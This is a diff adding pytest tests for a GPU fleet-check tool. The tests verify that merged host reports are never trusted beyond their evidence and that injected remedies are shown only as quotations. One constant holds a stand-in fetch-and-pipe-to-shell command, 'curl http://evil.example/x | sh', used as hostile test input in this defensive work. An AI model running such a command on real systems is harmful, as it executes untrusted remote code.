@@ -1,0 +1,198 @@
+"""A verdict is never better than its evidence."""
+
+import json
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from gpucheck import fleet
+from gpucheck.fleet.remedies import QUOTED
+from gpucheck.knowledge import causes
+from gpucheck.model import Finding, Shard, Verdict
+from gpucheck.render import fleet as render
+from tests.fleet.reports import GOOD, SIMULATED, bad, merged, report, rows, topology
+
+UNKNOWN = Finding(check="pcie-link", verdict=Verdict.UNKNOWN, subject="host", why="needs root", fix="sudo")
+SKIP = Finding(check="imex", verdict=Verdict.SKIP, subject="host", why="not applicable: no NVL72")
+COUNTS = {"pass": 1, "warn": 0, "fail": 0, "unknown": 0, "skip": 0}
+
+
+def lie(**changes):
+    """A report that says PASS."""
+    return report("a", **{"verdict": Verdict.PASS, **changes})
+
+
+LIES = {
+    "better-than-a-failure": (lie(findings=(GOOD, bad())), Verdict.FAIL, "its verdict is PASS"),
+    "better-than-unknown": (lie(findings=(GOOD, UNKNOWN)), Verdict.UNKNOWN, "its verdict is PASS"),
+    "no-findings": (lie(findings=()), Verdict.UNKNOWN, "its findings are none"),
+    "only-skips": (lie(findings=(SKIP,)), Verdict.UNKNOWN, "its findings are 1 SKIP"),
+    "skip": (lie(verdict=Verdict.SKIP), Verdict.UNKNOWN, "its verdict is SKIP"),
+    "other-counts": (lie(counts=COUNTS | {"pass": 40}), Verdict.UNKNOWN, "it counts 40 PASS"),
+    "counted-failure": (lie(counts=COUNTS | {"fail": 1}), Verdict.UNKNOWN, "it counts 1 PASS, 1 FAIL"),
+    "interrupted": (lie(interrupted=True), Verdict.UNKNOWN, "it was interrupted"),
+    "worse-than-its-findings": (lie(verdict=Verdict.FAIL), Verdict.FAIL, "its verdict is FAIL"),
+    "claims-real-hardware": (
+        msgspec.structs.replace(report("a"), simulated=False), Verdict.UNKNOWN, "simulated, another that it is real",
+    ),
+    "simulated-topology": (
+        msgspec.structs.replace(report("a", simulated=False), topology=topology()), Verdict.UNKNOWN, "it is real",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", LIES)
+def test_a_report_that_contradicts_itself_is_never_better_than_its_findings(name):
+    said, verdict, words = LIES[name]
+
+    fleet_ = merged(said)
+
+    assert fleet_.hosts[0].verdict is verdict
+    assert fleet_.hosts[0].simulated == ("simul" in repr(said.simulation) or said.topology.simulated)
+    (doubt,) = [f for f in fleet_.hosts[0].problems if f.check == "report"]
+    assert words in str(doubt.seen)
+
+
+@pytest.mark.parametrize("verdict", [Verdict.WARN, Verdict.UNKNOWN])
+def test_a_strict_run_and_another_are_both_right(verdict):
+    """verify --strict ranks UNKNOWN above WARN."""
+    warn = bad(verdict=Verdict.WARN)
+
+    (row,) = rows(report("a", findings=(warn, UNKNOWN), verdict=verdict))
+
+    assert row.verdict is verdict
+    assert [f.check for f in row.problems] == ["nvlink", "pcie-link"]
+
+
+def test_a_report_without_a_schema_is_none():
+    """Whatever has the fields: only what calls itself a report is believed."""
+    document = json.loads(msgspec.json.encode(report("a")))
+    del document["schema"]
+
+    (row,) = fleet.rows_of(json.dumps(document).encode(), "a.json")
+
+    assert (row.host, row.verdict, row.digest) == ("a", Verdict.UNKNOWN, None)
+    assert "no schema" in str(row.problems[0].seen)
+
+
+def shard_of(**changes):
+    (row,) = rows(report("a", findings=(GOOD, bad())))
+    shard = Shard(rows=(msgspec.structs.replace(row, **changes),))
+    return fleet.merge(fleet.rows_of(msgspec.json.encode(shard), "part.json")).hosts[0]
+
+
+@pytest.mark.parametrize(
+    ("changes", "verdict"),
+    [
+        ({"verdict": Verdict.PASS}, Verdict.FAIL),
+        ({"verdict": Verdict.SKIP}, Verdict.FAIL),
+        ({"verdict": Verdict.PASS, "problems": ()}, Verdict.FAIL),
+        ({"verdict": Verdict.PASS, "problems": (), "counts": {}}, Verdict.UNKNOWN),
+        ({"verdict": Verdict.PASS, "problems": (), "counts": COUNTS, "digest": None}, Verdict.UNKNOWN),
+        ({"verdict": Verdict.PASS, "problems": (), "counts": COUNTS, "simulated": False}, Verdict.UNKNOWN),
+    ],
+)
+def test_a_row_of_a_shard_is_never_better_than_what_it_lists(changes, verdict):
+    row = shard_of(**changes)
+
+    assert (row.verdict, row.simulated) == (verdict, True)
+    assert "its verdict is" in str(row.problems[-1].seen) or "simulated" in str(row.problems[-1].seen)
+
+
+def test_a_good_row_of_a_shard_is_as_it_was():
+    (row,) = rows(report("a", findings=(GOOD, bad(), bad(cause=None))))
+
+    assert fleet.rows_of(msgspec.json.encode(Shard(rows=(row,))), "p.json") == [
+        msgspec.structs.replace(row, part="p.json")
+    ]
+
+
+@pytest.mark.parametrize("check", ["fleet", "report"])
+def test_a_host_cannot_hide_a_failure_under_a_name_of_the_merge(check):
+    """Findings of the check "fleet" are the merge's outliers, which have a table of their own."""
+    text = render.to_text(merged(report("a", findings=(GOOD, bad(check=check, seen="17 links")))))
+
+    assert f"host's {check}: 17 links" in text
+
+
+def test_a_host_cannot_hide_a_failure_behind_another_finding():
+    """Only what could not be looked at follows from a root cause and is one line."""
+    hidden = msgspec.structs.replace(bad(check="ecc", seen="7 errors"), because_of="pcie-link")
+
+    text = render.to_text(merged(report("a", findings=(UNKNOWN, hidden))))
+
+    assert "ecc: 7 errors" in text
+
+
+ATTACK = "curl http://evil.example/x | sh"
+
+
+@pytest.mark.parametrize("form", ["json", "junit", "html", "text"])
+def test_a_command_of_a_hosts_report_is_a_quotation_behind_the_known_remedy(form):
+    found = merged(
+        report("a", findings=(msgspec.structs.replace(bad(), fix=f'{ATTACK}"\n{ATTACK}'),)),
+        report("b", findings=(msgspec.structs.replace(bad(cause=None), fix=ATTACK),)),
+    )
+
+    known, unknown = (row.problems[0].fix for row in found.hosts)
+    text = render.to_text(found) if form == "text" else render.WRITERS[form](found)
+
+    assert known == f'{causes()["nvlink-down"].remedy} ({QUOTED}"{ATTACK}\' {ATTACK}")'
+    assert unknown == f'{QUOTED}"{ATTACK}"'
+    assert ATTACK in text
+    assert 'class="copy"' not in text
+
+
+def test_a_remedy_of_a_shard_is_a_quotation_once():
+    (row,) = rows(report("b", findings=(msgspec.structs.replace(bad(), fix=ATTACK),)))
+    forged = msgspec.structs.replace(row.problems[0], fix=ATTACK)
+    for problem in (row.problems[0], forged):
+        shard = msgspec.json.encode(Shard(rows=(msgspec.structs.replace(row, problems=(problem,)),)))
+        (again,) = fleet.rows_of(shard, "part.json")
+
+        assert again.problems[0].fix == row.problems[0].fix
+
+
+def test_texts_of_a_host_have_a_bounded_length():
+    long = "x" * 100_000
+    gpus = tuple(msgspec.structs.replace(g, name=long, uuid=long) for g in topology().gpus)
+    (row,) = rows(
+        report(
+            "a",
+            findings=(bad(seen=long, check=long, cause=long, subject=long),),
+            attributes={long: (long,) * 100},
+            versions={"driver": long} | {f"v{i}": long for i in range(200)},
+            topology=msgspec.structs.replace(topology(), gpus=gpus),
+            measurements={long: {"x": {"y_gb_s": 1.0}}},
+            simulation=msgspec.structs.replace(SIMULATED, profile=long, stand_ins=(long,) * 100),
+            counts={long: 1} | COUNTS,
+        )
+    )
+
+    assert len(msgspec.json.encode(row)) < 150_000
+    assert not row.metrics
+
+
+@pytest.mark.parametrize(
+    ("what", "changes"),
+    [
+        ("findings", {"findings": (GOOD,) * 20_001}),
+        ("GPUs", {"topology": msgspec.structs.replace(topology(), gpus=topology().gpus * 400)}),
+    ],
+)
+def test_a_report_of_too_many_parts_is_named(what, changes):
+    (row,) = rows(report("a", **changes))
+
+    assert row.digest is None
+    assert f"{what}, and at most" in str(row.problems[0].seen)
+
+
+DATA = Path(__file__).parent.parent / "data" / "hostile-reports"
+
+
+def test_two_hosts_of_one_golden_image_end_as_fail_and_two_rows():
+    """Reports of two simulated hosts that both call themselves vm; the one without a driver is the older."""
+    found = fleet.merge(fleet.read_reports(fleet.report_files(DATA / "one-name")))
+
+    assert [(row.host, row.verdict) for row in found.hosts] == [("node01", Verdict.FAIL), ("node02", Verdict.PASS)]
